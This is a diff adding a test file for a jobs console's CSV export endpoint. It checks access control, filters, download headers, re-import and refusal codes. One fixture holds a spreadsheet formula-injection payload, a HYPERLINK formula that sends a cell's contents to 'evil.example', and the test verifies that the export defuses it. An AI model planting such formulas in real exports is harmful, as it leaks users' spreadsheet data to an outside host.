@@ -1,0 +1,255 @@
+/** GET /console-data/jobs.csv: the console's table of jobs as a file. */
+import { once } from "node:events";
+import { request as httpRequest, type IncomingMessage } from "node:http";
+import { Writable } from "node:stream";
+import { afterAll, beforeAll, describe, expect, it, vi } from "vitest";
+import { fileColumns } from "../../src/jobs/job.file.ts";
+import { importJobs } from "../../src/jobs/job.import.ts";
+import { readRows } from "../../src/jobs/job.import.rows.ts";
+import { createJobCodes } from "../../src/jobs/job.codes.ts";
+import { systemActor } from "../../src/platform/principal.ts";
+import { toTypedId } from "../../src/platform/ids.ts";
+import { createLogger } from "../../src/platform/logger.ts";
+import { readCsv } from "../../src/platform/csv.ts";
+import { newPerson, type SignedIn } from "../support/graphql-person.ts";
+import { startTestApp, type Partner, type TestApp } from "../support/start-app.ts";
+
+let app: TestApp;
+let agent: Partner;
+let contractor: Partner;
+let owner: SignedIn;
+
+const FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"click")';
+
+/** The log's lines so far. */
+const log: Record<string, unknown>[] = [];
+const lines = new Writable({
+  write(chunk: Buffer, _encoding, done) {
+    log.push(JSON.parse(chunk.toString()) as Record<string, unknown>);
+    done();
+  },
+});
+
+beforeAll(async () => {
+  app = await startTestApp({}, { logger: createLogger("info", lines) });
+  agent = await app.partner("agent");
+  contractor = await app.partner("contractor");
+  owner = await newPerson(app, agent.id, "member");
+  await app.jobs(agent, [
+    {
+      markingNumber: "E-1",
+      contractor,
+      patch: { recipient_name: FORMULA, instructions: 'two\nlines, "and" more', weight: -2.5 },
+    },
+    { markingNumber: "E-2", patch: { recipient_name: "'s-Gravenhage", scheduled_date: "2031-01-02" } },
+    {
+      markingNumber: "E-3",
+      patch: { recipient_name: "@SUM(1)", batch_number: "", normalized_status: "failed" },
+    },
+  ]);
+  await app.jobs(await app.partner("agent"), [{ markingNumber: "F-1" }]);
+});
+
+afterAll(() => app[Symbol.asyncDispose]());
+
+interface Question {
+  filter?: unknown;
+  orderBy?: unknown;
+  values?: string;
+}
+
+function pathOf({ filter, orderBy, values }: Question): string {
+  const given = new URLSearchParams();
+  if (filter !== undefined) given.set("filter", JSON.stringify(filter));
+  if (orderBy !== undefined) given.set("orderBy", JSON.stringify(orderBy));
+  if (values !== undefined) given.set("values", values);
+  return `/console-data/jobs.csv?${given.toString()}`;
+}
+
+const download = (question: Question, person: Pick<SignedIn, "headers"> = owner) =>
+  app.request(pathOf(question), { headers: person.headers });
+
+/** The rows of the file by the names of its columns. */
+async function rowsOf(answer: Promise<Response>): Promise<Record<string, string | null>[]> {
+  const response = await answer;
+  expect(response.status).toBe(200);
+  const bytes = new Uint8Array(await response.arrayBuffer());
+  const records: (string | null)[][] = [];
+  for await (const { content } of readCsv(toChunks(bytes))) {
+    if (!("cells" in content)) throw new Error(content.fault);
+    records.push(content.cells.map(({ text }) => text));
+  }
+  const [header = [], ...rows] = records;
+  expect(header).toEqual(fileColumns);
+  return rows.map((cells) => Object.fromEntries(cells.map((text, at) => [header[at] ?? "", text])));
+}
+
+/** The file through the import, as an operator would: how many jobs it made, changed and left alone. */
+async function importAgain(bytes: Uint8Array) {
+  const { database, organizations } = app;
+  const services = {
+    database,
+    organizations,
+    codes: createJobCodes(database),
+    announce: () => undefined,
+    happened: () => undefined,
+  };
+  const total = { created: 0, updated: 0, unchanged: 0, failed: 0 };
+  const options = { actor: systemActor, requestId: null, dryRun: false };
+  const rows = readRows(toChunks(bytes), { format: "csv", needsAgent: true });
+  for await (const { counts } of importJobs(services, rows, options))
+    for (const name of ["created", "updated", "unchanged", "failed"] as const) total[name] += counts[name];
+  return total;
+}
+
+async function firstBytes(question: Question): Promise<string> {
+  const file = await (await download(question)).arrayBuffer();
+  return Buffer.from(file).subarray(0, 3).toString("hex");
+}
+
+async function* toChunks(bytes: Uint8Array): AsyncGenerator<Uint8Array> {
+  yield await Promise.resolve(bytes);
+}
+
+const numbersOf = async (answer: Promise<Response>): Promise<string[]> =>
+  (await rowsOf(answer)).map(({ marking_number }) => String(marking_number));
+const sorted = (texts: readonly string[]): string[] => texts.toSorted();
+
+describe("200", () => {
+  it("has the jobs that the person sees, and nobody else's", async () => {
+    expect(sorted(await numbersOf(download({})))).toEqual(["E-1", "E-2", "E-3"]);
+    const carrier = await newPerson(app, contractor.id);
+    expect(await numbersOf(download({}, carrier))).toEqual(["E-1"]);
+    const operator = await newPerson(app, null);
+    expect(await numbersOf(download({}, operator))).toContain("F-1");
+  });
+
+  it("keeps to the filter and the order that `jobs` has", async () => {
+    const orderBy = { field: "MARKING_NUMBER", direction: "DESC" };
+    const filter = { or: [{ normalizedStatus: { eq: "failed" } }, { scheduledDate: { gte: "2031-01-01" } }] };
+    expect(await numbersOf(download({ filter, orderBy }))).toEqual(["E-3", "E-2"]);
+    const agentId = [toTypedId("org", agent.id)];
+    expect(await numbersOf(download({ filter: { agentId, not: filter } }))).toEqual(["E-1"]);
+  });
+
+  it("is a file to be kept by its name, and by nobody on the way", async () => {
+    const { headers } = await download({});
+    expect(headers.get("content-type")).toBe("text/csv; charset=utf-8; header=present");
+    expect(headers.get("content-disposition")).toMatch(/^attachment; filename="jobs-\d{4}-\d\d-\d\d\.csv"$/);
+    expect(headers.get("cache-control")).toBe("no-store");
+    const exact = await download({ values: "exact" });
+    expect(exact.headers.get("content-disposition")).toMatch(
+      /filename="jobs-\d{4}-\d\d-\d\d-to-import\.csv"$/,
+    );
+  });
+
+  it("has no cell that a spreadsheet takes for a formula, and changes no other", async () => {
+    const rows = new Map((await rowsOf(download({}))).map((row) => [row["marking_number"], row]));
+    expect(rows.get("E-1")).toMatchObject({
+      recipient_name: `'${FORMULA}`,
+      instructions: 'two\nlines, "and" more',
+      weight: "-2.5",
+    });
+    expect(rows.get("E-2")?.["recipient_name"]).toBe("'s-Gravenhage");
+    expect(rows.get("E-3")?.["recipient_name"]).toBe("'@SUM(1)");
+  });
+
+  it("says by its first bytes that it is UTF-8, unless it is to be imported again", async () => {
+    expect(await firstBytes({})).toBe("efbbbf");
+    expect(await firstBytes({ values: "exact" })).toBe(Buffer.from("mar").toString("hex"));
+  });
+
+  it("is imported again as it is where its values are exact, and changes nothing then", async () => {
+    const bytes = new Uint8Array(await (await download({ values: "exact" })).arrayBuffer());
+    const report = await importAgain(bytes);
+    expect(report).toEqual({ created: 0, updated: 0, unchanged: 3, failed: 0 });
+  });
+
+  it("goes on from page to page, each job once, whatever the order", async () => {
+    const many = await app.partner("agent");
+    const person = await newPerson(app, many.id);
+    const made = await app.jobs(
+      many,
+      Array.from({ length: 2_350 }, (_, n) => ({
+        markingNumber: `M-${String(n).padStart(4, "0")}`,
+        patch: n % 3 === 0 ? {} : { scheduled_date: `2031-01-${String((n % 28) + 1).padStart(2, "0")}` },
+      })),
+    );
+    for (const field of ["CREATED_AT", "UPDATED_AT", "SCHEDULED_DATE", "MARKING_NUMBER"])
+      for (const direction of ["ASC", "DESC"])
+        expect(sorted(await numbersOf(download({ orderBy: { field, direction } }, person)))).toEqual(made);
+    const byNumber = { orderBy: { field: "MARKING_NUMBER", direction: "DESC" } };
+    expect(await numbersOf(download(byNumber, person))).toEqual(made.toReversed());
+  }, 60_000);
+
+  it("ends with the client, which is no failure of ours", async () => {
+    const many = await app.partner("agent");
+    const person = await newPerson(app, many.id);
+    const long = "x".repeat(4_000);
+    await app.jobs(
+      many,
+      Array.from({ length: 3_000 }, () => ({ patch: { instructions: long } })),
+    );
+    const before = log.length;
+    const asking = httpRequest(`${app.url}${pathOf({})}`, { headers: person.headers }).end();
+    const [response] = (await once(asking, "response")) as [IncomingMessage];
+    await once(response, "readable");
+    response.destroy();
+    await vi.waitFor(() => expect(log.slice(before)).toMatchObject([{ status: 499 }]), 10_000);
+  }, 60_000);
+});
+
+describe("400", () => {
+  it.each([
+    ["a filter that is no JSON", "/console-data/jobs.csv?filter={", "filter"],
+    ["a filter twice", "/console-data/jobs.csv?filter={}&filter={}", "filter"],
+    ["a field that the contract has not", pathOf({ filter: { secret: true } }), "filter"],
+    ["a value of another type", pathOf({ filter: { weight: { gt: "much" } } }), "filter.weight.gt"],
+    [
+      "a status that is none",
+      pathOf({ filter: { normalizedStatus: { eq: "lost" } } }),
+      "filter.normalizedStatus.eq",
+    ],
+    ["an id that is none", pathOf({ filter: { agentId: ["org_x"] } }), "filter.agentId.0"],
+    [
+      "a list that is too long",
+      pathOf({ filter: { agentId: Array.from({ length: 101 }, () => "org_x") } }),
+      "filter.agentId",
+    ],
+    ["an order that is none", pathOf({ orderBy: { field: "WEIGHT", direction: "ASC" } }), "orderBy.field"],
+    ["half an order", pathOf({ orderBy: { field: "CREATED_AT" } }), "orderBy"],
+    ["values of another kind", pathOf({ values: "raw" }), "values"],
+  ])("%s", async (_what, path, field) => {
+    const response = await app.request(path, { headers: owner.headers });
+    const body = (await response.json()) as { error: { code: string; details: { field: string }[] } };
+    expect({ status: response.status, field: body.error.details[0]?.field }).toEqual({ status: 400, field });
+  });
+
+  it("a filter that nests without end", async () => {
+    let filter: object = { isLate: true };
+    for (let depth = 0; depth < 300; depth += 1) filter = { not: filter };
+    expect((await download({ filter })).status).toBe(400);
+  });
+});
+
+describe("refused", () => {
+  it("401 without a session, also with a key", async () => {
+    expect((await app.request(pathOf({}), { headers: { origin: app.url } })).status).toBe(401);
+    expect((await app.request(pathOf({}), { key: agent.key, headers: { origin: app.url } })).status).toBe(
+      401,
+    );
+  });
+
+  it("403 from a page of another site", async () => {
+    const { cookie } = owner.browser;
+    for (const where of [{}, { origin: "https://evil.example" }, { "sec-fetch-site": "cross-site" }])
+      expect((await app.request(pathOf({}), { headers: { cookie, ...where } })).status).toBe(403);
+  });
+
+  it("405 for anything but GET", async () => {
+    for (const method of ["POST", "HEAD", "DELETE"]) {
+      const response = await app.request(pathOf({}), { method, headers: owner.headers });
+      expect([response.status, response.headers.get("allow")]).toEqual([405, "GET"]);
+    }
+  });
+});
